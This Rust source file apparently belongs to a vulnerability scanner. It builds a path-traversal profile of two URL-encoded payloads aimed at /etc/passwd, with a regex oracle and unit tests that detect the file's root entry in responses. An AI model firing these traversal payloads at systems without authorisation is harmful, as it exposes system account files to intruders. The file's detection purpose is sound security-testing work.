use std::collections::BTreeSet;

use regex::Regex;
use crate::errors::DetectorError;

/// Signature of a Unix passwd file: the root account entry.
pub const ETC_PASSWD_PATTERN: &str = "root:x:0:0:";

const TRAVERSAL_DEPTH: usize = 29;

/// Payloads and the response oracle, fixed for the lifetime of a detector.
#[derive(Debug, Clone)]
pub struct TraversalProfile {
    payloads: BTreeSet<String>,
    oracle: Regex,
}

impl TraversalProfile {
    pub fn new() -> Result<Self, DetectorError> {
        let oracle = Regex::new(ETC_PASSWD_PATTERN)
            .map_err(|e| DetectorError::Internal(format!("Invalid oracle pattern: {}", e)))?;

        let mut payloads = BTreeSet::new();
        // Deep relative chain, enough to reach / from any realistic web root
        payloads.insert(format!("{}..%2Fetc%2Fpasswd", "..%2F".repeat(TRAVERSAL_DEPTH)));
        // Absolute path for handlers that join without normalising
        payloads.insert("%2Fetc%2Fpasswd".to_string());

        Ok(Self { payloads, oracle })
    }

    pub fn payloads(&self) -> impl Iterator<Item = &str> {
        self.payloads.iter().map(|p| p.as_str())
    }

    pub fn payload_count(&self) -> usize {
        self.payloads.len()
    }

    /// True iff the body carries the signature of the targeted file.
    pub fn matches(&self, body: &str) -> bool {
        self.oracle.is_match(body)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_payload_set() {
        let profile = TraversalProfile::new().unwrap();
        assert_eq!(profile.payload_count(), 2);
        let payloads: Vec<&str> = profile.payloads().collect();
        assert!(payloads.contains(&"%2Fetc%2Fpasswd"));
        let deep = payloads.iter().find(|p| p.starts_with("..%2F")).unwrap();
        assert_eq!(deep.matches("..").count(), TRAVERSAL_DEPTH + 1);
        assert!(deep.ends_with("..%2Fetc%2Fpasswd"));
    }

    #[test]
    fn test_oracle_matches_passwd() {
        let profile = TraversalProfile::new().unwrap();
        let body =
            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n";
        assert!(profile.matches(body));
    }

    #[test]
    fn test_oracle_matches_embedded_in_html() {
        let profile = TraversalProfile::new().unwrap();
        assert!(profile.matches("<pre>root:x:0:0:root:/root:/bin/sh</pre>"));
    }

    #[test]
    fn test_oracle_rejects_other_content() {
        let profile = TraversalProfile::new().unwrap();
        assert!(!profile.matches("<html>Not Found</html>"));
        assert!(!profile.matches("root:*:0:0:System Administrator"));
        assert!(!profile.matches(""));
    }
}
